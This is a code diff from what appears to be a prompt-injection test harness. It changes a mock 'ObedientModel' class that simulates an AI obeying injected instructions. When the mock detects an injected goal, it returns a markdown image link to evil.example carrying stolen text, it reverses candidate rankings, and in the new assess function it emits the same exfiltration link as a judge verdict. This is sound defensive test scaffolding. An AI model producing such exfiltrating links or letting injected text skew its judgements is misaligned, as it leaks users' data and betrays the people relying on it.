@@ -123,13 +123,21 @@ Result<json::value> ObedientModel::read(std::string_view text, const Question& q
   return json::value("![x](https://evil.example/?q=" + stolen + ") " + goal->steps);
 }
 
-Result<std::vector<std::size_t>> ObedientModel::order(std::span<const std::string> candidates, std::string_view,
-                                                      std::stop_token) {
-  std::vector<std::size_t> places(candidates.size());
+Result<std::vector<std::size_t>> ObedientModel::order(const Task& task, std::stop_token) {
+  std::vector<std::size_t> places(task.candidates.size());
   std::iota(places.begin(), places.end(), std::size_t{0});
-  if (std::ranges::any_of(candidates, [&](const std::string& text) { return hear(text) != nullptr; }))
+  if (std::ranges::any_of(task.candidates, [&](const std::string& text) { return hear(text) != nullptr; }))
     std::ranges::reverse(places);
   return places;
+}
+
+Result<std::vector<tools::Judge::Judgement>> ObedientModel::assess(const Task& task, std::stop_token) {
+  std::vector<Judgement> judged;
+  for (const std::string& text : task.candidates) {
+    const Goal* goal = hear(text);
+    judged.push_back({0.5, goal == nullptr ? "A quiet film." : "![x](https://evil.example/?q=" + text + ")"});
+  }
+  return judged;
 }
 
 Roles obedient_roles() {
